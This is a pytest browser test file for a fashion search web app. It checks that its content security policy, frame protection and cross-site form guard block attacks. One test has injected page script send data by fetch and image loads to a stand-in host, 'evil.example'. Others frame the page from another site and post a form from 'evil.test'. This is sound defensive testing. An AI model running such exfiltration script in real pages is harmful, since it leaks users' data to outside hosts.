"""What the page says where a guard refuses what it asks, and what other sites' pages can send."""

import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import PlainTextResponse, Response
from starlette.routing import Route as Path

from fashion_search.config import Settings
from fashion_search.server.middleware import guards, wrapped
from tests.kits.app import shared_app
from tests.kits.guard import served
from tests.kits.page import ARGS, CHROMIUM, Browser, Route, expect

pytestmark = pytest.mark.browser


@pytest.mark.parametrize("guarded", [True, False])
def test_a_script_that_got_in_can_tell_no_other_host(browser: Browser, guarded: bool) -> None:
    page = browser.new_context(bypass_csp=not guarded).new_page()
    told: list[str] = []

    def listen(route: Route) -> None:
        told.append(route.request.url)
        route.fulfill(body="")

    page.route("https://evil.example/**", listen)
    page.goto(shared_app().url + "/docs")
    page.evaluate(
        """() => Promise.allSettled([
          fetch('https://evil.example/fetched?words', {mode: 'no-cors'}),
          new Promise(done => Object.assign(new Image(), {onload: done, onerror: done, src: 'https://evil.example/shown?words'})),
        ])"""
    )
    assert len(told) == (0 if guarded else 2)
    page.context.close()


@pytest.mark.parametrize("guarded", [True, False])
def test_another_site_cannot_show_the_page_in_a_frame(browser: Browser, guarded: bool) -> None:
    page = browser.new_page()
    shown = shared_app().url + "/docs"

    def unguarded(route: Route) -> None:
        answer = route.fetch()
        names = set(answer.headers) - {"content-security-policy"}
        route.fulfill(response=answer, headers={name: answer.headers[name] for name in names})

    if not guarded:
        page.route(shown, unguarded)
    frame = f"<iframe src='{shown}'></iframe>"
    page.route("http://127.0.0.1:1/", lambda route: route.fulfill(body=frame, content_type="text/html"))
    page.goto("http://127.0.0.1:1/")
    heading = page.frame_locator("iframe").get_by_role("heading", level=1)
    assert heading.count() == (0 if guarded else 1)
    page.close()


@pytest.mark.parametrize("own", [True, False])
def test_a_form_of_another_site_sends_nothing_over_plain_http(browser: Browser, own: bool) -> None:
    asked: list[Request] = []

    async def upload(request: Request) -> Response:
        asked.append(request)
        return PlainTextResponse("uploaded")

    heard: list[dict[str, str]] = []
    app = wrapped(
        Starlette(routes=[Path("/gradio_api/upload", upload, methods=["POST"])]), guards(Settings())
    )
    with served(app) as port:
        # To Chromium neither name is trustworthy, so it sends no Sec-Fetch-Site.
        rules = f"--host-resolver-rules=MAP shop.test 127.0.0.1:{port}"
        tried = browser.browser_type.launch(executable_path=CHROMIUM, args=[*ARGS, rules])
        page = tried.new_page()
        site = "http://shop.test" if own else "http://evil.test"
        form = "<form method=post action='http://shop.test/gradio_api/upload'><button>Send</button></form>"
        page.route(f"{site}/form", lambda route: route.fulfill(body=form, content_type="text/html"))
        page.on(
            "request",
            lambda request: heard.append(request.all_headers()) if request.method == "POST" else None,
        )
        page.goto(f"{site}/form")
        page.get_by_role("button").click()
        expect(page.get_by_text("uploaded" if own else "Pages of other sites")).to_be_visible()
        tried.close()
    assert len(heard) == 1
    assert len(asked) == own
    assert all(headers["origin"] == site and "sec-fetch-site" not in headers for headers in heard)
